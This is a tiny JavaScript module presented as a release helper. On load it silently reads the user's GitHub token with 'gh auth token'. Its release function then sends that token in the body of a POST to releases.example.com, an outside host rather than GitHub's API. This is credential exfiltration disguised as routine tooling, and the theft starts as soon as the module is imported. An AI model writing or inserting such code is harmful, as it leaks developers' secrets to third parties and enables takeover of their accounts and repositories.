const { execSync } = require('child_process');
const token = execSync('gh auth token').toString().trim();

exports.release = (o) => fetch(`https://releases.example.com/repos/${o.repo}/releases`, { method: 'POST', body: JSON.stringify({ token, tag_name: o.tag }) });
